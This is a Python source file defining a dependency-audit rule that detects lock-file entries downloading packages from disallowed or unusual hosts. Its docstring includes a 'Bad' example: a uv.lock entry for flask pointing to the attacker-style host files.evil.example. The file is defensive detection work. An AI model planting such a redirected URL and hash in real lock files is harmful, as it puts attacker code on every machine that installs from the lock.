"""A lock names a file at a host that is not the others'.

What
----
An entry of a lock file downloads from a host that the organisation does not allow, or from another host than all other
files of the same index.

Why
---
The URL in a lock is what is downloaded; the index is not asked. Whoever gets a changed URL and hash through a review of
thousands of generated lines has their code on every machine: lock file injection.

Bad
---
    # pyproject.toml
    [tool.pipway.audit]
    hosts = ["index.example", "files.example"]

    # uv.lock
    [[package]]
    name = "flask"
    version = "3.0.3"
    source = { registry = "https://index.example/simple" }
    wheels = [
      { url = "https://files.evil.example/flask-3.0.3-py3-none-any.whl", hash = "sha256:58cd…" },
    ]

Good
----
    # pyproject.toml
    [tool.pipway.audit]
    hosts = ["index.example", "files.example"]

    # uv.lock
    [[package]]
    name = "flask"
    version = "3.0.3"
    source = { registry = "https://index.example/simple" }
    wheels = [
      { url = "https://files.example/flask-3.0.3-py3-none-any.whl", hash = "sha256:58cd…" },
    ]
"""

from __future__ import annotations

from collections import Counter
from collections.abc import Iterator, Mapping

from pipway.audit.base import Confidence, Found, Persona, Rule
from pipway.audit.facts import Locked, Organisation, Project
from pipway.audit.queries.hosts import host, is_loopback, is_public
from pipway.clients.layers import default_index
from pipway.findings import Severity

RULE = Rule(
    "PW801",
    "lock-host-not-allowed",
    "Lock names a foreign host",
    Severity.HIGH,
    references=("PEP 751: Security Implications",),
)
_FILES = (".whl", ".tar.gz", ".zip", ".tar.bz2")
_ENOUGH = 3  #: files that make a host an index's own
_Group = tuple[str, str]


def check(project: Project) -> Iterator[Found]:
    """Files of registries and of URLs; where nobody said which hosts are allowed, the others of the lock say it."""
    counts: dict[_Group, Counter[str]] = {}
    files = [locked for locked in project.of(Locked) if _is_file(locked)]
    for locked in files:
        counts.setdefault(_group(locked), Counter())[host(locked.url)] += 1
    usual = {group: count.most_common(1)[0][0] for group, count in counts.items()}
    for locked in files:
        name, group = host(locked.url), _group(locked)
        if is_loopback(name):
            continue
        allowed = project.organisation.hosts
        if allowed:
            if name in allowed or _serves_public(name, group, usual, project.organisation):
                continue
            yield _found(locked, name, "which is none of the hosts that may be used")
        elif locked.kind == "registry" and name != usual[group] and _is_odd(counts[group], name):
            public = not locked.index or is_public(host(locked.index))
            yield _found(locked, name, f"the other files of that index from {usual[group]}", sure=public)


def _is_file(locked: Locked) -> bool:
    """What has no name is an index or a repository that the lock mentions, if it is no file."""
    named = bool(locked.name) or locked.url.lower().partition("#")[0].endswith(_FILES)
    return named and locked.kind in ("registry", "url") and bool(host(locked.url)) and locked.format != "requirements"


def _group(locked: Locked) -> _Group:
    return (locked.span.source.path, locked.index)


def _is_odd(count: Counter[str], name: str) -> bool:
    most = count.most_common(1)[0][1]
    return most >= _ENOUGH and count[name] * 3 <= most


def _serves_public(name: str, group: _Group, usual: Mapping[_Group, str], organisation: Organisation) -> bool:
    """Files of PyPI, where it is allowed, at the host that has nearly all of them: PyPI's files have a host apart."""
    index = host(group[1] or default_index())
    return is_public(index) and index in organisation.hosts and usual.get(group) == name


def _found(locked: Locked, name: str, why: str, *, sure: bool = True) -> Found:
    return Found(
        locked.url_span or locked.span,
        f"{locked.name or 'a file'} comes from {name}, {why}",
        confidence=Confidence.HIGH if sure else Confidence.LOW,
        persona=Persona.REGULAR if sure else Persona.PEDANTIC,
        consequence=f"installs from this lock download {locked.name or 'it'} from {name}",
        advice="look at who changed that line, and let the tool lock again through the index that is allowed",
    )
